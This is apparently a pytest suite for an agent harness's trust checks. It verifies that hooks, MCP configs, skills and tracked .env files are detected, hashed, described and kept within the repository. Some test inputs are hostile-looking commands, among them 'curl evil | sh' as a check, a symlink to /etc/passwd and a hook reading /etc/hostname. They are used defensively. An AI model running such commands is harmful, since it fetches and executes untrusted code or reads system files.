from __future__ import annotations

import hashlib
import json
import os
from typing import TYPE_CHECKING

import pytest

from harness.roles.catalog import scan_roles
from harness.skills.catalog import roots_of, scan
from harness.trust.effects import difference, effects
from harness.trust.repository_files import RepositoryFiles, RepositoryFileUnreadable, find_files
from tests.support.odd_texts import ODD_YAML

if TYPE_CHECKING:
    from pathlib import Path

FILES = {
    "leadhand.yaml": (
        "checks: {tests: pytest -q}\nworktrees.setup: [./setup.sh]\nworkers: {max: 2}\n"
        "hooks:\n  PreToolUse:\n    - hooks: [{command: $CLAUDE_PROJECT_DIR/hooks/guard.sh -x}]\n"
        "  Stop:\n    - hooks: [{type: python, python: 'hooks/stop.py:ask'}]\n"
    ),
    ".mcp.json": json.dumps(
        {"mcpServers": {"docs": {"command": "python", "args": ["tools/docs.py"], "env": {"A": "b"}}}}
    ),
    "hooks/guard.sh": "exit 0\n",
    "hooks/stop.py": "def ask(given): ...\n",
    "hooks/other.py": "is not named\n",
    "tools/docs.py": "serve()\n",
    "AGENTS.md": "Be good.\n",
    ".agents/roles/reviewer.md": "You review.\n",
    "skills/tables/SKILL.md": "---\nname: tables\n---\n",
    "skills/tables/load.py": "load()\n",
    "skills/readme.txt": "belongs to no skill\n",
    ".worktreeinclude": ".env\n",
    ".env": "ANTHROPIC_BASE_URL=http://elsewhere\n",
    "src/code.py": "code\n",
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name, text in FILES.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    return tmp_path


def found(project: Path, *tracked: str) -> RepositoryFiles:
    return find_files(project, project, tracked=tracked)


def test_what_a_check_runs_is_work_and_belongs_to_no_word_of_the_person(tmp_path: Path) -> None:
    (tmp_path / "check.sh").write_text("exit 0\n")
    (tmp_path / "leadhand.yaml").write_text("checks: {tests: sh check.sh}\nworktrees.setup: [sh check.sh]\n")
    before = found(tmp_path)
    (tmp_path / "check.sh").write_text("exit 1\n")
    assert (sorted(before.texts), found(tmp_path)) == (["leadhand.yaml"], before)


def test_what_starts_allows_or_instructs_is_found_and_nothing_else(project: Path) -> None:
    assert sorted(found(project).texts) == [
        ".agents/roles/reviewer.md",
        ".mcp.json",
        ".worktreeinclude",
        "AGENTS.md",
        "hooks/guard.sh",
        "hooks/stop.py",
        "leadhand.yaml",
        "skills/tables/SKILL.md",
        "skills/tables/load.py",
        "tools/docs.py",
    ]


def test_a_dotenv_that_git_tracks_counts_and_its_values_are_kept_nowhere(project: Path) -> None:
    assert found(project, ".env").texts[".env"].startswith("sha256:")
    assert "elsewhere" not in json.dumps(found(project, ".env").to_json())


@pytest.mark.parametrize("name", [name for name in FILES if name not in {".env", "src/code.py"}])
def test_every_change_of_one_of_them_changes_the_digest(project: Path, name: str) -> None:
    before = found(project)
    (project / name).write_text("other", encoding="utf-8")
    is_found = name in before.texts
    assert (found(project).digest != before.digest) is is_found


def test_a_repository_without_such_files_brings_nothing(tmp_path: Path) -> None:
    assert found(tmp_path).texts == {}


def test_all_that_they_do_is_told(project: Path) -> None:
    told = [str(effect) for effect in effects(found(project, ".env"))]
    assert told == [
        ".agents/roles/reviewer.md says what members of a role are told, and with which tools they work",
        ".env is tracked by git and sets credentials, addresses and rules",
        ".mcp.json lets agents start the server docs: A=b python tools/docs.py",
        ".worktreeinclude names ignored files that are copied into worktrees",
        "AGENTS.md instructs every agent",
        "hooks/guard.sh belongs to one of these, or is started by it",
        "hooks/stop.py belongs to one of these, or is started by it",
        "leadhand.yaml runs as a check (checks.tests): pytest -q",
        "leadhand.yaml runs in every fresh worktree (worktrees.setup): ./setup.sh",
        "leadhand.yaml sets workers.max: 2",
        "leadhand.yaml runs as a hook (hooks.PreToolUse): $CLAUDE_PROJECT_DIR/hooks/guard.sh -x",
        "leadhand.yaml runs as a hook (hooks.Stop): hooks/stop.py:ask",
        "skills/tables/SKILL.md is a skill that agents can load and follow",
        "skills/tables/load.py belongs to one of these, or is started by it",
        "tools/docs.py belongs to one of these, or is started by it",
    ]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("leadhand.yaml", "checks: ["),
        ("leadhand.yaml", "- a\n"),
        ("leadhand.yaml", "hooks: {Nonsense: 3}"),
        (".mcp.json", "{"),
        (".mcp.json", "[]"),
        (".mcp.json", '{"mcpServers": {"a": 3}}'),
    ],
)
def test_a_broken_file_counts_and_is_told_of(project: Path, name: str, text: str) -> None:
    (project / name).write_text(text, encoding="utf-8")
    files = found(project)
    assert files.texts[name] == text
    assert effects(files)


def test_odd_files_are_known_by_their_digest(project: Path) -> None:
    skill = project / "skills/tables"
    (skill / "picture.png").write_bytes(b"\x89PNG\0")
    (skill / "long.txt").write_bytes(b"x" * 300_000)
    odd = os.fsencode(str(skill)) + b"/\xff.txt"
    with open(odd, "wb") as file:  # noqa: PTH123 - a name that is no text
        file.write(b"odd")
    (skill / "away").symlink_to("/etc/passwd")
    texts = found(project).texts
    assert texts["skills/tables/picture.png"].startswith("sha256:")
    assert texts["skills/tables/long.txt"].startswith("sha256:")
    assert texts["skills/tables/\\xff.txt"] == "odd"
    assert RepositoryFiles.from_json(json.loads(json.dumps(found(project).to_json()))) == found(project)


def test_a_word_of_a_hook_leads_to_no_file_outside(project: Path) -> None:
    (project / "leadhand.yaml").write_text(
        "hooks: {Stop: [{hooks: [{type: command, command: 'cat /etc/hostname ../x . a\\0b \"'}]}]}"
    )
    assert "hooks/guard.sh" not in found(project).texts


def test_the_difference_shows_what_is_new_changed_and_gone(project: Path) -> None:
    before = found(project)
    (project / "AGENTS.md").write_text("Be bad.\n")
    (project / ".worktreeinclude").unlink()
    (project / "CLAUDE.md").write_text("New.\n")
    now = found(project)
    assert now.other_than(before) == [".worktreeinclude", "AGENTS.md", "CLAUDE.md"]
    patch = difference(before, now)
    assert "-Be good." in patch
    assert "+Be bad." in patch
    assert "+New." in patch
    assert difference(now, now) == ""


@pytest.mark.parametrize("name", ["leadhand.yaml", ".mcp.json"])
@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1"])
def test_what_decides_and_cannot_be_shown_is_refused(project: Path, name: str, encoding: str) -> None:
    (project / name).write_bytes("# é\nchecks: {tests: curl evil | sh}\n".encode(encoding))
    with pytest.raises(RepositoryFileUnreadable, match="save it as UTF-8"):
        found(project)


@pytest.mark.parametrize("name", ["leadhand.yaml", ".mcp.json", ".env"])
@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "src"])
def test_what_decides_and_is_no_file_is_refused(project: Path, name: str, target: str) -> None:
    os.mkfifo(project / "pipe")
    (project / name).unlink()
    (project / name).symlink_to(target)
    with pytest.raises(RepositoryFileUnreadable):
        found(project, ".env")


@pytest.mark.parametrize(
    "name", ["AGENTS.md", ".worktreeinclude", ".agents/roles/x.md", "skills/tables/x", "skills/other"]
)
@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "outside/SKILL.md", "outside"])
def test_nothing_outside_the_repository_is_read_or_kept(
    project: Path, tmp_path_factory: pytest.TempPathFactory, name: str, target: str
) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "SKILL.md").write_text("---\nname: private\ndescription: private\n---\nprivate\n")
    os.mkfifo(project / "pipe")
    (project / name).unlink(missing_ok=True)
    (project / name).symlink_to(target.replace("outside", str(outside)))
    files = found(project)
    assert "private" not in json.dumps([files.to_json(), [str(effect) for effect in effects(files)]])
    assert all(
        skill.name != "private"
        for skill in scan(roots_of(project, home=project, allowed_at_home=())).skills.values()
    )
    told = [effect for effect in effects(files) if effect.file.startswith(name)]
    assert all(effect.what == "is not used" for effect in told)


def test_roles_and_skills_behind_a_link_out_of_the_repository_are_none(tmp_path: Path) -> None:
    project, outside = tmp_path / "project", tmp_path / "outside"
    for directory in (project / ".agents", outside / "private"):
        directory.mkdir(parents=True)
    for name in ("private/SKILL.md", "private.md"):
        (outside / name).write_text("---\nname: private\ndescription: x\n---\nsecret\n")
    for name in ("skills", ".agents/roles"):
        (project / name).symlink_to(outside)
    assert "private" not in scan_roles(project, {}).roles
    assert "private" not in scan(roots_of(project, home=project, allowed_at_home=())).skills
    assert "secret" not in json.dumps(found(project).to_json())


def test_no_file_passes_for_the_digest_of_another(project: Path) -> None:
    evil = b"\xff evil"
    digests = set()
    for data in (evil, f"sha256:{hashlib.sha256(evil).hexdigest()}".encode(), b"not read: it leads out"):
        (project / "hooks/guard.sh").write_bytes(data)
        assert found(project).texts["hooks/guard.sh"].startswith("sha256:")
        digests.add(found(project).digest)
    assert len(digests) == 3


def test_no_name_passes_for_another(project: Path) -> None:
    skill = os.fsencode(project / "skills/tables")
    for name in (rb"\xff.txt", b"\xff.txt"):
        with open(skill + b"/" + name, "wb") as file:  # noqa: PTH123 - a name that is no text
            file.write(name)
    assert len([name for name in found(project).texts if "xff" in name]) == 2


@pytest.mark.parametrize(
    "value", ["2001-01-01", "[2001-01-01]", "[{2001-01-01: a}]", "!!set {a}", ".nan", "!!binary YQ=="]
)
def test_every_value_of_yaml_is_told(project: Path, value: str) -> None:
    (project / "leadhand.yaml").write_text(f"checks: {{calc: {value}}}")
    assert "leadhand.yaml runs as a check (checks.calc" in "".join(map(str, effects(found(project))))


SHOWN = {what: text for what, text in ODD_YAML.items() if "\0" not in text}


@pytest.mark.parametrize("text", SHOWN.values(), ids=SHOWN)
def test_odd_yaml_stops_nobody_who_looks(project: Path, text: str) -> None:
    (project / "leadhand.yaml").write_text(text)
    told = [str(effect) for effect in effects(found(project))]
    assert "leadhand.yaml cannot be read as settings, so no run will begin" in told
